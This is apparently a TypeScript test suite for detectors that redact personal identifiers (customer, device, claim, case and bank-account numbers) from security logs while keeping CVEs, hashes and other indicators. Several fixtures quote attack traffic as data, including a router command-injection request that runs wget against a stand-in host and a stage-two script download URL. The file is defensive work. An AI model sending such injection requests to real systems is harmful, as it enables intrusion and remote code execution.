import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { Detector } from './detectors/finding';
import { bankAccountDetectors } from './detectors/bank-accounts';
import { deviceIdDetectors } from './detectors/device-ids';
import { networkDetectors } from './detectors/network';
import { recordIdDetectors } from './detectors/record-ids';
import { referenceDetectors } from './detectors/references';
import { trackerKeyDetectors } from './detectors/tracker-keys';

const ctx = { isProtected: () => false, internalDomains: [], netblocks: [] } as unknown as Parameters<Detector>[1];
const spans = (detectors: [string, Detector][], text: string) =>
  detectors.flatMap(([, d]) => d(text, ctx)).filter((f) => !f.keep).map((f) => `${f.kind}:${text.slice(f.start, f.end)}`);
const ids = (text: string) => spans(recordIdDetectors, text);

describe('ids named by the layout of a record', () => {
  it('takes the customer and device segments of an MQTT topic or a REST path', () => {
    assert.deepEqual(ids('plant7/cust/C-4471902/dev/HX20B7731045/status {"t":21.5}'), ['CUSTOMER-ID:C-4471902', 'SERIAL:HX20B7731045']);
    assert.deepEqual(ids('GET /api/v2/customers/88120457/devices/ZT-0042-9981 returned 200'), ['CUSTOMER-ID:88120457', 'SERIAL:ZT-0042-9981']);
  });
  it('leaves device files, versions, hashes and the path of a URL with its host alone', () => {
    assert.deepEqual(ids('wrote /dev/ttyUSB0 and /dev/mmcblk0p1; node/v18.17.0 runtime'), []);
    assert.deepEqual(ids('stage 2 from http://cdn-upd.example/dev/58213377/x.sh'), []);
    assert.deepEqual(ids('lure at secure-bank[.]example/account/77120983/verify'), []);
    assert.deepEqual(ids('dropper at /devices/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08/run'), []);
  });
  it('takes a metering point under its key, not a short number or a hash under another key', () => {
    assert.deepEqual(ids('{"v":229.8,"mp":"DE0004711234500000000000000012345","kw":1.2}'), ['METER-POINT:DE0004711234500000000000000012345']);
    assert.deepEqual(ids('malo_id=50123456789 cups=ES0031405123456789JN0F'), ['METER-POINT:50123456789', 'METER-POINT:ES0031405123456789JN0F']);
    assert.deepEqual(ids('{"mp": 3, "port": 8883, "sha1": "da39a3ee5e6b4b0d3255bfef95601890afd80709"}'), []);
  });
  it('takes the sender id of a messenger export', () => {
    assert.deepEqual(ids('{"id": 4411, "from": "Ana", "from_id": "user5120334917", "text": "hi"}'), ['USER:user5120334917']);
    assert.deepEqual(ids('"actor_id": "channel1409928811", "reply_to_message_id": 4410'), ['USER:channel1409928811']);
  });
  it('takes a claim number after its label in several languages, not a catalogue id or a year', () => {
    assert.deepEqual(ids('Claim CLM-2023-551902 opened for the stolen car'), ['CLAIM-ID:CLM-2023-551902']);
    assert.deepEqual(ids('Schadennummer: 40-SH-8812734, Versicherung informiert'), ['CLAIM-ID:40-SH-8812734']);
    assert.deepEqual(ids('número de siniestro 7730918842'), ['CLAIM-ID:7730918842']);
    assert.deepEqual(ids('the vendor claims CVE-2024-3400 is fixed; claim 2024 was rejected'), []);
  });
  it('takes police and prosecution case numbers by their layout', () => {
    assert.deepEqual(ids('Az. 412 Js 18733/24\nGeschädigte: …'), ['CASE-ID:Az. 412 Js 18733/24']);
    assert.deepEqual(ids('КУСП № 11872 от 03.04.2024; KUSP-650299'), ['CASE-ID:КУСП № 11872', 'CASE-ID:KUSP-650299']);
    assert.deepEqual(ids('Boletim BO-20931874 registrado'), ['CASE-ID:BO-20931874']);
    assert.deepEqual(ids('port 443 open, BOOT-2024 image, bo 12'), []);
  });
  it('takes a serial in a note slot or as a device certificate common name', () => {
    assert.deepEqual(ids('Bemerkung: KX81T4410927 / IMEI follows'), ['SERIAL:KX81T4410927']);
    assert.deepEqual(ids('备注: 70QRD55120934'), ['SERIAL:70QRD55120934']);
    assert.deepEqual(ids('subject CN=ML22F0917734, O=Acme Meters, OU=gateway'), ['SERIAL:ML22F0917734']);
    assert.deepEqual(ids('S/N printed: SN-4A77-2190-0312'), ['SERIAL:SN-4A77-2190-0312']);
    assert.deepEqual(ids('Configuration item: ventilator / VX31R0042719\nWork notes: rebooted'), ['SERIAL:VX31R0042719']);
    assert.deepEqual(ids('configuration item: edge router / v17.9.4a'), []);
    assert.deepEqual(ids('OBX|1|ST|FW||pump QK41M0093318 fetched the image'), ['SERIAL:QK41M0093318']);
    assert.deepEqual(ids('Hikvision camera DS-2CD2143G0-I and router RT-AX88U are exposed; unit 4411 ok'), []);
  });
  it('keeps ATT&CK ids, CVEs, hashes and attacker certificates in those slots', () => {
    assert.deepEqual(ids('Note: T1059.001 via CVE-2023-20198; remark: d41d8cd98f00b204e9800998ecf8427e'), []);
    assert.deepEqual(ids('issuer CN=update-cdn.example, subject CN=Major Cobalt Strike'), []);
    assert.deepEqual(ids('Note: 10.0.19045 build, comment: v2.4.11'), []);
  });
});

describe('request targets of an access log', () => {
  const net = (text: string) => spans(networkDetectors, text).filter((s) => s.startsWith('PARAM:'));
  it('removes per-user parameters of the logging server\'s own request line', () => {
    const line = '198.51.100.4 - - [09/May/2024:02:11:09 +0000] "GET /portal/activate?sid=5f2b9c0e7d1a43b8a6e0c4d2b1f39a77&lang=de HTTP/1.1" 302 0';
    assert.deepEqual(net(line), ['PARAM:5f2b9c0e7d1a43b8a6e0c4d2b1f39a77']);
  });
  it('keeps the exploit parameters an attacker sent and the request without a query', () => {
    assert.deepEqual(net('"GET /cgi-bin/luci?cmd=wget%20http://x.example/m HTTP/1.1" 200'), []);
    assert.deepEqual(net('"POST /boaform/admin/formLogin HTTP/1.1" 404'), []);
  });
});

describe('trouble tickets of a NOC', () => {
  it('reads TT# and NOC- ticket ids, not a port or an issue number of a public tracker', () => {
    const refs = (text: string) => spans(referenceDetectors, text);
    assert.deepEqual(refs('TT#35120987 opened; see NOC-81022'), ['CASE-ID:TT#35120987', 'CASE-ID:NOC-81022']);
    assert.deepEqual(refs('tcp/8883 and upstream issue #4412'), []);
  });
});

describe('customer numbers right after the noun', () => {
  it('reads the number after a customer or subscriber noun in several languages', () => {
    assert.deepEqual(ids('I, the subscriber, abonné 5512009871, ask for my data'), ['CUSTOMER-ID:5512009871']);
    assert.deepEqual(ids('customer KD-4410882 wrote again; お客様 K20931177 も'), ['CUSTOMER-ID:KD-4410882', 'CUSTOMER-ID:K20931177']);
    assert.deepEqual(ids('абонент 7730012299 жалуется'), ['CUSTOMER-ID:7730012299']);
  });
  it('leaves short numbers, dates, addresses and versions after the noun', () => {
    assert.deepEqual(ids('Windows client KB5034441 installed'), []);
    assert.deepEqual(ids('client 443 refused; customer 2024-03-05 visit; client 10.20.30.40; client v5.2.1000000'), []);
  });
});

describe('an account number after "no. de cuenta"', () => {
  it('reads the abbreviated Spanish and Portuguese account labels like the spelt-out ones', () => {
    const found = (text: string) => deviceIdDetectors.flatMap(([, d]) => d(text, ctx)).filter((f) => !f.keep).map((f) => text.slice(f.start, f.end));
    assert.ok(found('Factura — Lucía Ortega, no. de cuenta AB4471209935').includes('AB4471209935'));
    assert.ok(found('Fatura: nº de conta 88120-3341').includes('88120-3341'));
  });
});

describe('ticket keys leading a title or in an issue-key column', () => {
  const keys = (text: string) => spans(trackerKeyDetectors, text);
  it('reads the key a title starts with and the issue-key column of a Jira export', () => {
    assert.deepEqual(keys('OPS-20931 Meter gateway beaconing'), ['CASE-ID:OPS-20931']);
    const csv = 'Summary,Issue key,Reporter\n"Gateway, beaconing",NETSEC-4410,Jo\nOther,NETSEC-4411,Al';
    assert.deepEqual(keys(csv), ['CASE-ID:NETSEC-4410', 'CASE-ID:NETSEC-4411']);
  });
  it('keeps CVE, exploit-database and port names that start a title, and keys inside a sentence', () => {
    assert.deepEqual(keys('CVE-2024-3400 exploitation wave'), []);
    assert.deepEqual(keys('EDB-51234 proof of concept'), []);
    assert.deepEqual(keys('TCP-4444 reverse shell to the C2'), []);
    assert.deepEqual(keys('MS17-010 exploitation by the worm'), []);
    assert.deepEqual(keys('SID-2027865 fired on the sensor'), []);
    assert.deepEqual(keys('Beaconing seen, tracked as OPS-20931'), []);
    assert.deepEqual(keys('INC-2291 – Trend Micro'), []);
  });
});

describe('bank accounts after a payment phrase and in more national layouts', () => {
  const accounts = (text: string) => [...new Set(spans(bankAccountDetectors, text))];
  it('reads the account a direct debit or a payout names', () => {
    assert.deepEqual(accounts('Direct debit from 110-482913-70215'), ['BANK-ACCOUNT:110-482913-70215']);
    assert.deepEqual(accounts('Payout to р/с: 40817810099910004312'), ['BANK-ACCOUNT:40817810099910004312']);
  });
  it('reads Thai, Korean and Russian layouts near a bank word, the IFSC in brackets, the Japanese branch after the number', () => {
    assert.deepEqual(accounts('Bank transfer received, 123-4-56789-0 (Kasikorn)'), ['BANK-ACCOUNT:123-4-56789-0']);
    assert.deepEqual(accounts('bank: 40820810500001234567'), ['BANK-ACCOUNT:40820810500001234567']);
    assert.ok(accounts('Bank 55512345678 (IFSC HDFC0001234)').includes('BANK-ACCOUNT:55512345678 (IFSC HDFC0001234)'));
    assert.deepEqual(accounts('口座: 普通 1234567（支店番号 048）'), ['BANK-ACCOUNT:普通 1234567（支店番号 048）']);
  });
  it('leaves dates, addresses, versions and CVE ids after those phrases', () => {
    assert.deepEqual(accounts('Direct debit from 2024-05-01 failed; payout to 185.220.101.47; bank app 10.0.19045; CVE-2024-123456'), []);
  });
});
